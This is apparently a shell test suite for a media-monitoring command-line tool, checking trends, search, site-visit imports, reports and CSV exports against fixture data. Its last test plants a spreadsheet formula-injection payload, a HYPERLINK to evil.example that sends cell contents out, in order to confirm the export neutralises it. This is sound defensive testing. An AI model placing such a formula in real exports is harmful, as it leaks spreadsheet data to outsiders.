#!/bin/sh
# 1300-analysts: trends, search, the monthly and half-year report,
# exports and the import of site visits, on the fixture day
# (tests/fixtures/web/digest, crawled and analysed) and a fixture month
# of rows made with SQL: trends agree with the views, search finds
# inflected forms and ranks the right article first, the report renders
# in headless chromium, CSV round-trips through Python's csv module.
. "$(dirname "$0")/../lib.sh"
start_pg
start_fixture_server
mm db migrate >/dev/null

cat >"$TRASH/sources.yaml" <<EOF
version: 1
reviewed: 2026-11-20
crawler:
  allow_networks: [127.0.0.0/8]
  delay_ms: 10
  per_host: 4
sources:
  - { name: gp, url: "$FIXTURE/digest/gp/rss.xml", own: true, weight: 1 }
  - { name: kabar, url: "$FIXTURE/digest/a/rss.xml", weight: 0.9 }
  - { name: vesti, url: "$FIXTURE/digest/b/rss.xml", weight: 0.7 }
  - { name: kaktus, url: "$FIXTURE/digest/c/rss.xml", weight: 0.6 }
EOF
export MEDIAMON_SOURCES="$TRASH/sources.yaml"

# json FILE PYTHON-EXPRESSION: evaluate with d = the parsed file
json() {
	python3 -c "import json,sys; d=json.load(open(sys.argv[1])); print($2)" "$1"
}

# csv_rows FILE: the file as Python's csv module reads it, one repr()
# of a row per line (the round trip every CSV test goes through)
csv_rows() {
	python3 -c '
import csv, sys
with open(sys.argv[1], newline="", encoding="utf-8-sig") as f:
    for row in csv.reader(f, strict=True):
        print("|".join(c.replace("\n", "\\n").replace("\r", "\\r")
                       for c in row))' "$1"
}

test_expect 'the fixture day is crawled and analysed' '
	mm crawl >/dev/null 2>&1 && mm analyze 2>/dev/null &&
	[ "$(sql "SELECT count(*) FROM articles")" = 11 ] &&
	[ "$(sql "SELECT count(*) FROM v_daily_tonality")" -gt 0 ]
'

# A fixture month: November 2026 in Asia/Bishkek (UTC+6).  Articles
# around local midnight (18:00 UTC) fall on the right day; an analyst's
# correction counts, the machine's label does not; the office's own
# articles are not coverage; violations with regions and categories.
test_expect 'a fixture month is stored with SQL' '
	sql "
	INSERT INTO sources (name, url, type, region, own)
	VALUES (${q}akipress${q}, ${q}http://a.example/${q}, ${q}rss${q}, ${q}bishkek${q}, false),
	       (${q}own2${q}, ${q}http://o.example/${q}, ${q}rss${q}, ${q}bishkek${q}, true);
	INSERT INTO articles (source_id, url, canonical_url, title, text, published)
	SELECT s.id, ${q}http://a.example/${q} || g, ${q}http://a.example/${q} || g,
	       ${q}Статья ${q} || g, ${q}Текст о прокуратуре ${q} || g,
	       ${q}2026-10-31 18:00+00${q}::timestamptz + g * interval ${q}7 hours${q}
	FROM generate_series(0, 99) g, sources s WHERE s.name = ${q}akipress${q};
	INSERT INTO article_analysis (article_id, lexicon_version, tonality, regions)
	SELECT a.id, ${q}t${q}, (ARRAY[${q}positive${q}, ${q}neutral${q}, ${q}negative${q}, NULL])[1 + a.id % 4], ${q}{}${q}
	FROM articles a WHERE a.canonical_url LIKE ${q}http://a.example/%${q};
	INSERT INTO tonality_overrides (article_id, tonality, note)
	SELECT article_id, ${q}negative${q}, ${q}test${q} FROM article_analysis
	WHERE article_id IN (SELECT id FROM articles WHERE canonical_url LIKE ${q}http://a.example/%${q})
	  AND article_id % 10 IN (1, 3);
	INSERT INTO articles (source_id, url, canonical_url, title, published)
	SELECT s.id, ${q}http://o.example/1${q}, ${q}http://o.example/1${q}, ${q}Own${q}, ${q}2026-11-10 10:00+06${q}
	FROM sources s WHERE s.name = ${q}own2${q};
	INSERT INTO article_analysis (article_id, lexicon_version, tonality)
	SELECT id, ${q}t${q}, ${q}positive${q} FROM articles WHERE canonical_url = ${q}http://o.example/1${q};
	INSERT INTO violations (article_id, category, stage, country, region)
	SELECT a.id, (ARRAY[${q}torture${q}, ${q}corruption${q}, ${q}labour${q}])[1 + a.id % 3],
	       ${q}alleged${q}, ${q}kg${q}, (ARRAY[${q}osh${q}, ${q}chui${q}, NULL])[1 + a.id % 3]
	FROM articles a WHERE a.canonical_url LIKE ${q}http://a.example/%${q} AND a.id % 5 = 0;" &&
	[ "$(sql "SELECT sum(total) FROM v_daily_tonality WHERE source = ${q}akipress${q}")" -gt 60 ]
'

# The views' answer for a period pattern P (to_char) and the month.
view_tonality() {
	sql "SELECT to_char(day, ${q}$1${q}), t, sum(n) FROM (
	       SELECT day, ${q}positive${q} t, positive n FROM v_daily_tonality
	       UNION ALL SELECT day, ${q}neutral${q}, neutral FROM v_daily_tonality
	       UNION ALL SELECT day, ${q}negative${q}, negative FROM v_daily_tonality) x
	     WHERE day BETWEEN ${q}2026-11-01${q} AND ${q}2026-11-30${q} AND n > 0
	     GROUP BY 1, 2 ORDER BY 1, 2" | tr "|" ","
}

test_expect 'trends by tonality agree with v_daily_tonality (day, week, month)' '
	for by in day:YYYY-MM-DD week:IYYY-\"W\"IW month:YYYY-MM; do
		view_tonality "${by#*:}" >want &&
		mm trends --from 2026-11-01 --to 30.11.2026 --by ${by%%:*} \
			--group tonality --format csv >got.csv &&
		tail -n +2 got.csv | tr -d "\r" | sort >got &&
		test_cmp want got || exit 1
	done &&
	mm trends --from 2026-11-01 --to 2026-11-30 --by week --format csv >w.csv &&
	grep -q "^2026-W44,\|^2026-W45," w.csv && ! grep -v "^period\|^2026-W4[4-9]," w.csv
'

test_expect 'the CSV header is exactly period,group,count; --bom adds the BOM' '
	mm trends --from 2026-11-01 --to 2026-11-30 --by month --format csv >t.csv &&
	[ "$(head -n 1 t.csv)" = "$(printf "period,group,count\r")" ] &&
	mm trends --from 2026-11-01 --to 2026-11-30 --format csv --bom >b.csv &&
	[ "$(head -c 3 b.csv | od -An -tx1 | tr -d " ")" = efbbbf ] &&
	csv_rows b.csv | head -n 1 | grep -qx "period|group|count"
'

test_expect 'trends by source: an analyst correction counts, own articles do not' '
	sql "SELECT to_char(day, ${q}YYYY-MM${q}), source, sum(total) FROM v_daily_tonality
	     WHERE day BETWEEN ${q}2026-11-01${q} AND ${q}2026-11-30${q}
	     GROUP BY 1, 2 ORDER BY 1, 2" | tr "|" "," >want &&
	mm trends --from 2026-11-01 --to 2026-11-30 --by month --group source \
		--format csv >got.csv && tail -n +2 got.csv | tr -d "\r" | sort >got &&
	test_cmp want got && ! grep -q own2 got &&
	mm trends --from 2026-11-01 --to 2026-11-30 --by month --format json \
		--source akipress >a.json &&
	[ "$(json a.json "sorted((x[\"group\"], x[\"count\"]) for x in d)")" = \
	  "$(sql "SELECT tonality, count(*) FROM v_article_tonality WHERE source = ${q}akipress${q} GROUP BY 1 ORDER BY 1" |
	     python3 -c "import sys; print(sorted((l.split(\"|\")[0], int(l.split(\"|\")[1])) for l in sys.stdin.read().split()))")" ]
'

test_expect 'a day is cut in the configured time zone' '
	mm trends --from 2026-11-01 --to 2026-11-01 --group source --format csv >d.csv &&
	[ "$(sql "SELECT count(*) FROM v_article_tonality WHERE source = ${q}akipress${q} AND day = ${q}2026-11-01${q}")" = \
	  "$(awk -F, "/^2026-11-01,akipress,/ { n = \$3 + 0 } END { print n + 0 }" d.csv)" ] &&
	[ "$(sql "SELECT count(*) FROM v_article_tonality WHERE source = ${q}akipress${q} AND day = ${q}2026-11-01${q}")" -gt 0 ] &&
	[ "$(sql "SELECT count(*) FROM articles WHERE canonical_url = ${q}http://a.example/0${q} AND published = ${q}2026-10-31 18:00+00${q}")" = 1 ]
'

test_expect 'trends by region, category and department agree with v_violations' '
	for g in region category department; do
		sql "SELECT to_char((published AT TIME ZONE ${q}Asia/Bishkek${q})::date, ${q}YYYY-MM${q}),
		            coalesce($g, ${q}${q}), count(*)
		     FROM v_violations v
		     WHERE published >= ${q}2026-11-01 00:00+06${q} AND published < ${q}2026-12-01 00:00+06${q}
		       AND source NOT IN (SELECT name FROM sources WHERE own)
		     GROUP BY 1, 2 ORDER BY 1, 2" | tr "|" "," >want &&
		mm trends --from 2026-11-01 --to 2026-11-30 --by month --group $g \
			--format csv >got.csv &&
		tail -n +2 got.csv | tr -d "\r" | sort >got &&
		test_cmp want got || exit 1
	done
'

test_expect 'trends: usage errors name the option' '
	{ mm trends --from 2026-11-01 2>err; [ $? = 2 ]; } && grep -q "needs --from and --to" err &&
	{ mm trends --from 2026-11-31 --to 2026-12-01 2>err; [ $? = 2 ]; } && grep -q "not a date" err &&
	{ mm trends --from 2026-11-01 --to 2026-11-02 --by year 2>err; [ $? = 2 ]; } &&
	{ mm trends --from 2026-11-01 --to 2026-11-02 --group topic 2>err; [ $? = 2 ]; } &&
	{ mm trends --from 2026-11-02 --to 2026-11-01 2>err; [ $? = 2 ]; } && grep -q "after" err &&
	{ mm trends --from 2026-11-01 --to 2026-11-02 --source nosuch 2>err; [ $? = 2 ]; } &&
	grep -q "no source named .nosuch." err &&
	mm trends --from 2026-11-01 --to 2026-11-30 --format json --out tr.json &&
	[ "$(json tr.json "sorted(d[0])")" = "[${q}count${q}, ${q}group${q}, ${q}period${q}]" ]
'

# Search: three articles of our own, one about pastures in its title and
# text, one naming them once in passing, one about something else.
test_expect 'search finds inflected forms and ranks the right article first' '
	sql "INSERT INTO articles (source_id, url, canonical_url, title, text, published)
	     SELECT s.id, u, u, t, x, ${q}2026-11-20 10:00+06${q}
	     FROM sources s, (VALUES
	       (${q}http://a.example/s1${q}, ${q}Прокуратура вернула пастбища селу${q},
	        ${q}Прокуратура района вернула селу пастбища. Пастбищ в районе не хватает, пастбищами пользовались незаконно.${q}),
	       (${q}http://a.example/s2${q}, ${q}Сессия городского кенеша${q},
	        ${q}Депутаты обсудили бюджет, дороги и одно пастбище за городом.${q}),
	       (${q}http://a.example/s3${q}, ${q}Погода на выходные${q},
	        ${q}Ожидается снег в горах. Prosecutors said nothing about the weather.${q})) v (u, t, x)
	     WHERE s.name = ${q}akipress${q}" &&
	mm search пастбище --format json --limit 50 >s.json &&
	[ "$(json s.json "d[0][\"url\"]")" = http://a.example/s1 ] &&
	[ "$(json s.json "[x[\"url\"] for x in d].index(\"http://a.example/s2\") > 0")" = True ] &&
	[ "$(json s.json "\"http://a.example/s3\" in [x[\"url\"] for x in d]")" = False ] &&
	[ "$(json s.json "all(sorted(x) == sorted([\"url\",\"source\",\"title\",\"published\",\"tonality\",\"snippet\"]) for x in d)")" = True ] &&
	[ "$(json s.json "\"**\" in d[0][\"snippet\"]")" = True ] &&
	[ "$(json s.json "any(\"sokuluk\" in x[\"url\"] or \"pastbishcha\" in x[\"url\"] for x in d)")" = True ]
'

test_expect 'search: English stemming, filters and the table' '
	mm search prosecutor --format json >e.json &&
	[ "$(json e.json "[x[\"url\"] for x in d]")" = "[${q}http://a.example/s3${q}]" ] &&
	mm search "пастбищ" --source vesti --format json >v.json &&
	[ "$(json v.json "set(x[\"source\"] for x in d)")" = "{${q}vesti${q}}" ] &&
	mm search пастбище --from 2026-11-20 --to 2026-11-20 --format json >f.json &&
	[ "$(json f.json "sorted(x[\"url\"] for x in d)")" = \
	  "[${q}http://a.example/s1${q}, ${q}http://a.example/s2${q}]" ] &&
	mm search пастбище --tonality negative --format json >n.json &&
	[ "$(json n.json "all(x[\"tonality\"] == \"negative\" for x in d)")" = True ] &&
	mm search пастбище >s.txt && head -n 3 s.txt && grep -q "^ 1\. " s.txt &&
	{ mm search 2>err; [ $? = 2 ]; } && { mm search x --tonality bad 2>err; [ $? = 2 ]; }
'

test_expect 'import site-visits: a Google Analytics export' '
	printf "%s\n" "# ----------------------------------------" \
		"# All Web Site Data" "# Pages" "# 20261101-20261130" \
		"# ----------------------------------------" "" \
		"Page,Date,Pageviews,Unique Pageviews" \
		"/digest/gp/release-1.html,20261117,\"1,234\",1000" \
		"/digest/gp/release-1.html,20261118,300,250" \
		"/,20261117,\"2,000\",1500" \
		",,\"3,534\",2750" "" \
		"# ----------------------------------------" \
		"Day Index,Pageviews" "11/17/26,3534" >ga.csv &&
	mm import site-visits ga.csv >out && cat out &&
	grep -q "3 rows, 2 days, 2 pages" out && grep -q google_analytics out &&
	[ "$(sql "SELECT visits FROM site_visits WHERE page = ${q}/digest/gp/release-1.html${q} AND day = ${q}2026-11-17${q}")" = 1000 ] &&
	[ "$(sql "SELECT visits FROM v_site_visits WHERE page = ${q}/${q}")" = 1500 ]
'

test_expect 'import site-visits: a Matomo export with a BOM and quoted fields' '
	printf "\357\273\277date,label,nb_visits,nb_hits\r\n" >m.csv &&
	printf "%s\r\n" "2026-11-17,\"/digest/gp/release-1.html\",1100,1300" \
		"2026-11-19,\"https://prokuror.example/digest/gp/release-1.html#top\",40,45" \
		"2026-11-19,\"news, \"\"quoted\"\"\",7,9" >>m.csv &&
	mm import site-visits m.csv >out && cat out && grep -q matomo out &&
	[ "$(sql "SELECT visits FROM site_visits WHERE page = ${q}/digest/gp/release-1.html${q} AND day = ${q}2026-11-17${q}")" = 1100 ] &&
	[ "$(sql "SELECT visits FROM site_visits WHERE page = ${q}/digest/gp/release-1.html${q} AND day = ${q}2026-11-19${q}")" = 40 ] &&
	[ "$(sql "SELECT page FROM site_visits WHERE visits = 7")" = "/news, \"quoted\"" ] &&
	mm import site-visits m.csv >/dev/null &&
	[ "$(sql "SELECT count(*) FROM site_visits")" = 5 ]
'

test_expect 'import site-visits refuses a bad row with FILE:LINE and the cause' '
	printf "Date;Страница;Визиты\n17.11.2026;/a;5\n18.11.2026;/b;пять\n" >bad.csv &&
	{ mm import site-visits bad.csv >out 2>err; [ $? = 1 ]; } && cat err &&
	grep -q "bad.csv:3: .пять. is not a number of visits" err &&
	[ "$(sql "SELECT count(*) FROM site_visits WHERE page = ${q}/a${q}")" = 0 ] &&
	printf "date,page,visits\n2026-02-30,/a,1\n" >bad2.csv &&
	{ mm import site-visits bad2.csv 2>err; [ $? = 1 ]; } && grep -q "bad2.csv:2: .2026-02-30. is not a date" err &&
	printf "day,page,visits\n2026-11-17,\"/a,1\n" >bad3.csv &&
	{ mm import site-visits bad3.csv 2>err; [ $? = 1 ]; } && grep -q "bad3.csv:2: a quote opened on line 2 is never closed" err &&
	printf "when,where,how many\n" >bad4.csv &&
	{ mm import site-visits bad4.csv 2>err; [ $? = 1 ]; } && grep -q "bad4.csv:1: no date, page and visits columns" err
'

test_expect 'the monthly report in JSON: its sections and figures' '
	mm report --month 2026-11 --format json --out r.json &&
	[ "$(json r.json "sorted(d)")" = "[${q}lang${q}, ${q}negative_outlets${q}, ${q}period${q}, ${q}press_releases${q}, ${q}previous_totals${q}, ${q}series${q}, ${q}series_unit${q}, ${q}site_visits${q}, ${q}sources_failed${q}, ${q}timezone${q}, ${q}top_outlets${q}, ${q}totals${q}, ${q}violations${q}]" ] &&
	[ "$(json r.json "d[\"period\"][\"from\"], d[\"period\"][\"to\"], d[\"period\"][\"previous\"][\"label\"]")" = "2026-11-01 2026-11-30 2026-10" ] &&
	[ "$(json r.json "d[\"totals\"][\"mentions\"]")" = "$(sql "SELECT sum(total) FROM v_daily_tonality WHERE day BETWEEN ${q}2026-11-01${q} AND ${q}2026-11-30${q}")" ] &&
	[ "$(json r.json "d[\"totals\"][\"negative\"]")" = "$(sql "SELECT sum(negative) FROM v_daily_tonality WHERE day BETWEEN ${q}2026-11-01${q} AND ${q}2026-11-30${q}")" ] &&
	[ "$(json r.json "len(d[\"series\"]), sum(x[\"positive\"] + x[\"neutral\"] + x[\"negative\"] for x in d[\"series\"]) == d[\"totals\"][\"mentions\"]")" = "30 True" ] &&
	[ "$(json r.json "d[\"press_releases\"][\"releases\"], d[\"press_releases\"][\"picked_up\"], d[\"press_releases\"][\"pickups\"]")" = "1 1 3" ] &&
	[ "$(json r.json "d[\"press_releases\"][\"median_hours\"] == float(\"$(sql "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY hours) FROM v_pickups")\")")" = True ] &&
	[ "$(json r.json "d[\"press_releases\"][\"top\"][0][\"visits_7d\"]")" = 1390 ] &&
	[ "$(json r.json "d[\"site_visits\"][\"visits\"], d[\"site_visits\"][\"release_page_visits\"]")" = "2897 1390" ] &&
	[ "$(json r.json "d[\"violations\"][\"total\"][\"reports\"]")" = "$(sql "SELECT count(*) FROM v_violations WHERE published >= ${q}2026-11-01 00:00+06${q} AND published < ${q}2026-12-01 00:00+06${q} AND (country IS NULL OR country = ${q}kg${q}) AND source NOT IN (SELECT name FROM sources WHERE own)")" ] &&
	[ "$(json r.json "sum(x[\"reports\"] for x in d[\"violations\"][\"by_category\"]) == d[\"violations\"][\"total\"][\"reports\"]")" = True ]
'

test_expect 'cases closed and how fast; failed sources' '
	case_id=$(sql "SELECT min(case_id) FROM v_cases") && [ -n "$case_id" ] &&
	mm cases update "$case_id" --status closed --resolution "проверка проведена" >/dev/null &&
	sql "INSERT INTO fetch_log (source_id, kind, url, fetched_at, status, error)
	     SELECT id, ${q}feed${q}, url, ${q}2026-11-12 10:00+06${q}, ${q}failed${q}, ${q}timed out after 20 s${q}
	     FROM sources WHERE name = ${q}kaktus${q}" &&
	mm report --month 2026-11 --format json --out r2.json &&
	[ "$(json r2.json "d[\"violations\"][\"total\"][\"closed\"] >= 1 and d[\"violations\"][\"total\"][\"median_days_to_close\"] is not None")" = True ] &&
	[ "$(json r2.json "[(x[\"source\"], x[\"failures\"], x[\"last_error\"]) for x in d[\"sources_failed\"]]")" = "[(${q}kaktus${q}, 1, ${q}timed out after 20 s${q})]" ]
'

test_expect 'the HTML report: Russian by default, every string escaped' '
	mm report --month 2026-11 --out report.html &&
	grep -q "<html lang=\"ru\">" report.html &&
	grep -q "Ежемесячная аналитическая записка: ноябрь 2026 г." report.html &&
	grep -q "<svg " report.html && [ "$(grep -o "<svg " report.html | wc -l)" -ge 3 ] &&
	! grep -qi "<script" report.html && ! grep -q "<img" report.html &&
	! grep -qi "href=\"javascript" report.html &&
	mm report --month 2026-11 --lang en --out en.html &&
	grep -q "Monthly report: November 2026" en.html &&
	mm report --half 2026-H2 --lang ky --out ky.html &&
	grep -q "2026-жылдын экинчи жарымы" ky.html &&
	mm report --half 2026-H2 --format json | python3 -c "import json,sys; d=json.load(sys.stdin); assert d[\"series_unit\"] == \"week\" and d[\"period\"][\"previous\"][\"label\"] == \"2026-H1\""
'

test_expect 'report: usage errors' '
	{ mm report 2>err; [ $? = 2 ]; } && grep -q "needs --month" err &&
	{ mm report --month 2026-13 2>err; [ $? = 2 ]; } && grep -q "not a month" err &&
	{ mm report --half 2026-H3 2>err; [ $? = 2 ]; } &&
	{ mm report --month 2026-11 --half 2026-H1 2>err; [ $? = 2 ]; } &&
	{ mm report --month 2026-11 --format csv 2>err; [ $? = 2 ]; }
'

test_expect 'headless chromium renders the monthly report (screenshot kept)' '
	screenshot "file://$TRASH/report.html" "$ARTIFACTS/report.png" 900,3100 &&
	[ "$(wc -c <"$ARTIFACTS/report.png")" -gt 50000 ]
'

test_expect 'exports: CSV round-trips through a CSV parser, with a header' '
	for k in articles mentions cases; do
		mm export $k --format csv >$k.csv &&
		csv_rows $k.csv >$k.rows &&
		[ "$(wc -l <$k.rows)" -gt 1 ] || exit 1
	done &&
	head -n 1 articles.rows | grep -qx "id|source|url|title|published|fetched|lang|text" &&
	head -n 1 mentions.rows | grep -q "^article_id|source|url|title|published|tonality|" &&
	head -n 1 cases.rows | grep -q "^case_id|status|category|" &&
	[ "$(($(wc -l <articles.rows) - 1))" = "$(sql "SELECT count(*) FROM articles")" ] &&
	[ "$(($(wc -l <mentions.rows) - 1))" = "$(sql "SELECT count(*) FROM v_mentions")" ] &&
	[ "$(($(wc -l <cases.rows) - 1))" = "$(sql "SELECT count(*) FROM v_cases")" ] &&
	mm export mentions --format jsonl >m.jsonl &&
	python3 -c "import json,sys; rows=[json.loads(l) for l in open(\"m.jsonl\")]; assert all(isinstance(r[\"evidence\"], (dict, list, type(None))) for r in rows); print(len(rows))"
'

test_expect 'exports: --bom, and a formula in a title is neutralised' '
	sql "UPDATE articles SET title = ${q}=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")${q}
	     WHERE canonical_url = (SELECT url FROM v_mentions ORDER BY article_id LIMIT 1)" &&
	mm export mentions --format csv --bom >mb.csv &&
	[ "$(head -c 3 mb.csv | od -An -tx1 | tr -d " ")" = efbbbf ] &&
	csv_rows mb.csv | grep -q "|${q}=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")|" &&
	! csv_rows mb.csv | cut -d"|" -f4 | grep -q "^=" &&
	mm export articles --format csv --bom | head -c 3 | od -An -tx1 | grep -q "ef bb bf" &&
	{ mm export cases --bom 2>err; [ $? = 2 ]; } && grep -q "goes with --format csv" err &&
	mm export cases --format csv --since 2026-11-01 --source kabar >c.csv && csv_rows c.csv >/dev/null
'

finish
